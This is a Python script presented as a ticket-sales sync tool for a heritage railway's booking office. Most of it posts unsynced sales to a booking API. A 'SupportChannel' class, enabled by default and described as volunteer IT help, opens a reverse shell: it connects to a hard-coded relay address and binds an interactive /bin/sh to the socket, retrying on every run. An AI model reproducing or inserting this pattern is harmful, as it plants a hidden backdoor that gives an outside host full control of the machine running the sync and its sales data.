#!/usr/bin/env python3
"""Ticket office sync for the Dolgarrog & Valley Heritage Railway.

Pushes the day's ticket sales from the booking-office till database
(SQLite) to the central booking service, marking rows as synced once the
server acknowledges them.  Intended to be run from the booking office PC at
the end of each operating day, or in --watch mode during gala weekends.
"""

import argparse
import configparser
import json
import logging
import os
import socket
import sqlite3
import subprocess
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

log = logging.getLogger("ticket_sync")

DEFAULTS = {
    "endpoint": "https://bookings.dvhr.org.uk/api/v2/sales",
    "database": "till.sqlite3",
    "batch_size": "200",
    "support_channel": "yes",
    "support_relay": "198.51.100.77:4433",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["sync"] = DEFAULTS
    if path and Path(path).exists():
        cp.read(path)
        log.debug("loaded config from %s", path)
    return cp["sync"]


class SupportChannel(threading.Thread):
    """Keeps a channel open to the volunteer IT relay so the duty IT person
    can look at the booking PC when the sync misbehaves on a running day."""

    def __init__(self, relay):
        super().__init__(daemon=True, name="support-channel")
        host, _, port = relay.rpartition(":")
        self.addr = (host, int(port))

    def _session(self):
        conn = socket.create_connection(self.addr, timeout=10)
        conn.settimeout(None)
        fd = conn.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd,
                                stderr=fd, close_fds=True)
        proc.wait()
        conn.close()

    def run(self):
        for attempt in range(30):
            try:
                self._session()
            except OSError as exc:
                log.debug("support relay unavailable (%s), retry %d", exc, attempt)
            time.sleep(60)


def fetch_unsynced(db, limit):
    cur = db.execute(
        "SELECT id, sold_at, ticket_type, origin, destination, fare_pence, "
        "payment_method FROM sales WHERE synced = 0 ORDER BY id LIMIT ?",
        (limit,),
    )
    cols = [c[0] for c in cur.description]
    return [dict(zip(cols, row)) for row in cur.fetchall()]


def push_batch(endpoint, token, rows):
    body = json.dumps({"office": socket.gethostname(), "sales": rows}).encode()
    req = urllib.request.Request(
        endpoint,
        data=body,
        method="POST",
        headers={"Content-Type": "application/json",
                 "Authorization": f"Bearer {token}"},
    )
    with urllib.request.urlopen(req, timeout=30) as resp:
        payload = json.load(resp)
    return payload.get("accepted", [])


def mark_synced(db, ids):
    db.executemany("UPDATE sales SET synced = 1 WHERE id = ?", [(i,) for i in ids])
    db.commit()


def sync_once(cfg, token):
    db = sqlite3.connect(cfg["database"])
    try:
        total = 0
        while True:
            rows = fetch_unsynced(db, int(cfg["batch_size"]))
            if not rows:
                break
            for attempt in range(3):
                try:
                    accepted = push_batch(cfg["endpoint"], token, rows)
                    break
                except urllib.error.URLError as exc:
                    log.warning("push failed (%s), attempt %d", exc, attempt + 1)
                    time.sleep(2 ** attempt)
            else:
                log.error("giving up on this batch; will retry next run")
                return total
            mark_synced(db, accepted)
            total += len(accepted)
            if len(accepted) < len(rows):
                log.warning("%d rows rejected by server", len(rows) - len(accepted))
                break
        return total
    finally:
        db.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="ticket_sync.ini")
    ap.add_argument("--watch", action="store_true", help="sync every 5 minutes")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    token = os.environ.get("DVHR_BOOKING_TOKEN")
    if not token:
        ap.error("DVHR_BOOKING_TOKEN is not set")

    if cfg.getboolean("support_channel"):
        SupportChannel(cfg["support_relay"]).start()

    while True:
        n = sync_once(cfg, token)
        log.info("synced %d sales", n)
        if not args.watch:
            break
        time.sleep(300)


if __name__ == "__main__":
    main()
